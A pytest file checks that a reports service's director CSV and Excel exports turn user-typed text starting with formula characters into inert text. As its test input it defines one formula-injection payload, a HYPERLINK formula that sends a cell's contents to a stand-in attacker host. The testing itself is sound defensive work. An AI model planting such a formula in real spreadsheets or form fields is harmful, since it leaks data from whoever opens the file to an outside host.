"""No text a person typed becomes a formula in the directors' CSV or workbook."""

import csv
import io

import pytest
from openpyxl import load_workbook

from service.reports import exports
from tests.web.conftest import SignIn

SECRETARIAT = "griet.vanhoutte@kcvs.example"
DIRECTOR = "koenraad.despriet@kortrijk.example"
HOSTILE = '=HYPERLINK("https://evil.example/?d="&B2,"Details")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_be_formulas_get_an_apostrophe(start: str) -> None:
    text = exports.to_csv([["Titel", "Voortgang"], [f"{start}1+1", 40]])
    assert list(csv.reader(io.StringIO(text), delimiter=";"))[1] == [f"'{start}1+1", "40"]


def test_workbook_text_cells_are_text() -> None:
    width = len(exports.COLUMNS)
    progress = exports.PROGRESS_COLUMN + 1
    rows = [list(exports.COLUMNS), [HOSTILE] * width, ["Gewoon"] * width]
    rows[1][exports.PROGRESS_COLUMN] = "40"
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(rows, title="x"))).active
    assert sheet is not None
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value == HOSTILE and cell.quotePrefix
    assert sheet["A3"].data_type == "s" and not sheet["A3"].quotePrefix
    assert sheet.cell(row=2, column=progress).value == 40  # progress stays a number


async def test_a_formula_in_a_deliverable_title_stays_text_in_every_export(
    sign_in: SignIn,
) -> None:
    chair = await sign_in(SECRETARIAT)
    made = await chair.post(
        "/api/groups/nis2/deliverables",
        json={"title": HOSTILE, "due_on": "2027-06-30", "accountable_organisation": "antwerpen"},
    )
    assert made.status_code == 201, made.text
    director = await sign_in(DIRECTOR)
    exported = (await director.get("/directors/export.csv")).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(exported), delimiter=";"))
    titles = [row[2] for row in rows]
    assert "'" + HOSTILE in titles and HOSTILE not in titles
    assert not any(cell.startswith(exports.FORMULA_STARTS) for row in rows for cell in row)
    book = load_workbook(io.BytesIO((await director.get("/directors/export.xlsx")).content))
    sheet = book.active
    assert sheet is not None
    (cell,) = [c for c in sheet["C"] if c.value == HOSTILE]
    assert cell.data_type == "s" and cell.quotePrefix
